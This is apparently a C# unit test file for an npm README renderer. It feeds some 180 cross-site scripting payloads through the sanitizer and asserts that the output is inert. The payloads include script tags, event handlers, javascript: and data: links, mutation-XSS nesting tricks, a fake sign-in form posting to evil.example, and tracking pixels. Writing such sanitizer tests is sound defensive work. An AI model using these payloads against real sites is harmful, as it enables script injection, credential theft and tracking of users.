using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Assay.Npm;
using Assay.Server.Pages.Readmes;

namespace Assay.Server.Tests.Pages.Readmes;

/// <summary>What the collections of cross-site scripting try, inert: judged by the document that a browser makes of the answer, not by its text.</summary>
public sealed class ReadmeAttackTests
{
    private static readonly HashSet<string> Elements =
    [
        "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img",
        "input", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
        "tr", "tt", "u", "ul", "var", "wbr",
    ];

    private static readonly HashSet<string> Attributes =
    [
        "alt", "aria-label", "checked", "class", "colspan", "dir", "disabled", "height", "href", "id", "loading", "open", "referrerpolicy", "rel", "reversed", "role", "rowspan", "src", "start",
        "tabindex", "title", "type", "value", "width",
    ];

    private static readonly HashSet<string> Classes = ["readme-scroll", "readme-left", "readme-center", "readme-right", "readme-note", "readme-plain"];

    private static readonly ReadmeLinks Links = new(
        "/npm", PackageName.TryParse("@acme/x", out var name) ? name : throw new InvalidOperationException(), "1.0.0",
        new Dictionary<string, IndexedFile> { ["logo.png"] = new("logo.png", 10, "", 0), ["evil.svg"] = new("evil.svg", 10, "", 0), ["x.html"] = new("x.html", 10, "", 0) },
        SourceTree.TryRead("acme/x", null, null, null, out var tree) ? tree : null,
        ["images.example"]);

    public static TheoryData<string> Tries =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<script\n>alert(1)</script\n>",
        "<script/src=data:,alert(1)>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img src=x\tonerror\n=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='logo.png' onload='alert(1)'>",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<img src=\" &#14;  javascript:alert(1);\">",
        "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
        "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
        "<img src=evil.svg>",
        "<img src=x.html>",
        "<img src=https://tracker.example/pixel.gif>",
        "<img srcset='https://tracker.example/pixel.gif 1x' src=logo.png>",
        "<picture><source srcset=https://tracker.example/x.png><img src=logo.png></picture>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)//",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><maction actiontype=\"statusline#http://a\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<plaintext><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=javascript:alert(1)></object>",
        "<object type=text/html data=x.html></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<base href=https://evil.example/>",
        "<base target=_blank>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=preload as=image href=https://tracker.example/x.png>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{display:none}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<p style=\"background:url(https://tracker.example/)\">x</p>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<p class=\"sr-only button-danger\">x</p>",
        "<table background=https://tracker.example/x.png><tr><td background=javascript:alert(1)>x</td></tr></table>",
        "<body onload=alert(1) background=javascript:alert(1)>",
        "<html onclick=alert(1)>",
        "<input type=text name=password autofocus onfocus=alert(1)>",
        "<input type=image src=https://tracker.example/x.png>",
        "<input type=checkbox onclick=alert(1) formaction=javascript:alert(1)>",
        "<form action=https://evil.example/><input type=password><button>Sign in</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<bgsound src=javascript:alert(1)>",
        "<layer src=https://evil.example/></layer>",
        "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert(1);\">]]></c></x></xml>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<?php echo '<script>alert(1)</script>'; ?>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!DOCTYPE html><script>alert(1)</script>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script&NewLine;:alert(1)\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=file:///etc/passwd>x</a>",
        "<a href=blob:https://a.example/x>x</a>",
        "<a href=https://good.example@evil.example/>x</a>",
        "<a href=\\\\evil.example>x</a>",
        "<a href=/\\evil.example>x</a>",
        "<a href=#x onclick=alert(1) ping=https://tracker.example/ target=_top download>x</a>",
        "<a href=x attributionsrc=https://tracker.example/>x</a>",
        "<a name=location id=document href=#>x</a>",
        "<img name=cookie id=getElementById src=logo.png>",
        "<a id=csrf></a><a id=csrf name=token href=//evil.example></a>",
        "<h1 id=main>x</h1>",
        "<p id=\"readme-&quot; onclick=&quot;alert(1)\">x</p>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](<java script:alert(1)>)",
        "[x]( javascript:alert(1) \"title\")",
        "[x](vbscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:image/svg+xml;base64,PHN2Zy8+)",
        "[x](https://a.example/ \"\" onmouseover=\"alert(1)\")",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](https://a.example/' onmouseover='alert(1))",
        "[<img src=x onerror=alert(1)>](https://a.example)",
        "[x\"><img src=x onerror=alert(1)>](https://a.example)",
        "![x](javascript:alert(1))",
        "![x](x.png\"onerror=\"alert(1))",
        "![x\"onerror=\"alert(1)](logo.png)",
        "![x](https://tracker.example/x.png \"a\"onerror=\"alert(1)\")",
        "![<script>alert(1)</script>](logo.png)",
        "![![x](javascript:alert(1))](javascript:alert(2))",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x]\n\n[x]: javascript:alert(1)",
        "[x]\n\n[x]: <data:text/html,<script>alert(1)</script>>",
        "![x]\n\n[x]: javascript:alert(1) \"onerror=alert(1)\"",
        "[x\"onclick=\"alert(1)]: https://a.example\n\n[x\"onclick=\"alert(1)]",
        "<javascript:alert(1)>",
        "<vbscript:alert(1)>",
        "<data:text/html,alert(1)>",
        "<https://a.example/\"onmouseover=\"alert(1)>",
        "https://a.example/\"onmouseover=\"alert(1)",
        "https://a.example/'onmouseover='alert(1)",
        "<a@b.example\"onmouseover=\"alert(1)>",
        "www.a.example/<script>alert(1)</script>",
        "```js\" onmouseover=\"alert(1)\nx\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
        "`</code><script>alert(1)</script>`",
        "    </pre><script>alert(1)</script>",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| </td></table><script>alert(1)</script> | [x](javascript:alert(1)) |",
        "| a\" style=\"x | b |\n|:--:|---|\n| 1 | 2 |",
        "[^x\"onclick=\"alert(1)]\n\n[^x\"onclick=\"alert(1)]: <script>alert(1)</script>",
        "[^1]\n\n[^1]: [x](javascript:alert(1))",
        "- [ ] <img src=x onerror=alert(1)>\n- [x\" onclick=\"alert(1)] y",
        "# <img src=x onerror=alert(1)> \"onclick=\"",
        "# x {#main onclick=alert(1)}",
        "[x](https://a.example){onclick=alert(1)}",
        "<table><tr><td><p title=\"</td></tr></table><script>alert(1)</script>\">",
        "<p>a<b>b<p>c<script>alert(1)</script></b>",
        "<a href=\"https://a.example\"><a href=\"javascript:alert(1)\">x</a></a>",
        "<b><a href=https://a.example><table><a href=javascript:alert(1)>x",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "\\<script>alert(1)\\</script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img src=x o\0nerror=alert(1)>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u2028<script>alert(1)</script>\u2029",
        "<\u0000script>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<p is=custom-element>x</p>",
        "<slot name=x></slot><portal src=https://evil.example/></portal>",
        "<p contenteditable accesskey=x popover popovertarget=y commandfor=z draggable itemprop=q>x</p>",
        "<p data-confirm=no data-target=x hidden inert>x</p>",
        "<dialog open>Sign in again</dialog>",
    ];

    [Theory]
    [MemberData(nameof(Tries))]
    public void It_is_inert(string text)
    {
        foreach (var wrapped in new[] { text, $"> {text}", $"- {text}", $"<div>\n{text}\n</div>", $"<details><summary>a</summary>\n\n{text}\n\n</details>", $"a **b {text} c** d", $"<p align=\"center\">{text}" })
        {
            ShouldBeInert(ReadmeMarkup.Render(wrapped, isMarkdown: true, Links));
        }
        ShouldBeInert(ReadmeMarkup.Render(text, isMarkdown: false, Links));
    }

    [Theory]
    [MemberData(nameof(Tries))]
    public void It_is_inert_without_the_second_look(string text) => ShouldHaveNoStrangeElement(WellNested.Of(MarkdownHtml.Of(text)));

    [Theory]
    [MemberData(nameof(Tries))]
    public void It_is_inert_without_the_first_look(string text) =>
        ShouldBeInert(new ReadmeDocument(AllowedMarkup.Sanitizer.SanitizeDom(MarkdownHtml.Of(text)), Links).Finish());

    // As a browser makes it, with scripts: what is text without them might be elements with them.
    private static void ShouldBeInert(string html)
    {
        foreach (var isScripting in new[] { true, false })
        {
            var document = new HtmlParser(new HtmlParserOptions { IsScripting = isScripting }).ParseDocument($"<!doctype html><body><main>{html}</main>");
            Assert.Empty(document.Head!.ChildNodes);
            var main = Assert.Single(document.Body!.ChildNodes.OfType<IElement>(), element => element.LocalName == "main");
            Assert.Single(document.Body.ChildNodes);
            Assert.Empty(document.Body.Attributes);
            Assert.Empty(main.Descendants<IComment>());
            foreach (var element in main.QuerySelectorAll("*"))
            {
                ShouldBeAllowed(element, html);
            }
        }
    }

    private static void ShouldBeAllowed(IElement element, string html)
    {
        Assert.True(Elements.Contains(element.LocalName), $"{element.LocalName} in {html}");
        Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
        foreach (var attribute in element.Attributes)
        {
            Assert.True(Attributes.Contains(attribute.Name), $"{attribute.Name} in {html}");
        }
        Assert.All(element.ClassList, name => Assert.Contains(name, Classes));
        if (element.GetAttribute("id") is { } id)
        {
            Assert.StartsWith("readme-", id, StringComparison.Ordinal);
        }
        if (element.GetAttribute("href") is { } href)
        {
            Assert.True(
                href.StartsWith("https://", StringComparison.Ordinal) || href.StartsWith("http://", StringComparison.Ordinal) || href.StartsWith("mailto:", StringComparison.Ordinal)
                || href.StartsWith("#readme-", StringComparison.Ordinal), href);
            Assert.True(href[0] == '#' || element.GetAttribute("rel") == "nofollow noopener noreferrer ugc", html);
        }
        if (element.LocalName == "img")
        {
            Assert.Equal("/npm/-/packages/@acme/x/v/1.0.0/raw/logo.png", element.GetAttribute("src"));
        }
        if (element.LocalName == "input")
        {
            Assert.Equal("checkbox", element.GetAttribute("type"));
            Assert.True(element.HasAttribute("disabled"));
        }
    }

    private static void ShouldHaveNoStrangeElement(string html)
    {
        var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<!doctype html><body>{html}");

        Assert.All(document.Body!.QuerySelectorAll("*"), element => Assert.True(Elements.Contains(element.LocalName) || element.LocalName == "h1", element.LocalName));
        Assert.All(document.Body!.QuerySelectorAll("*"), element => Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.Ordinal)));
    }
}
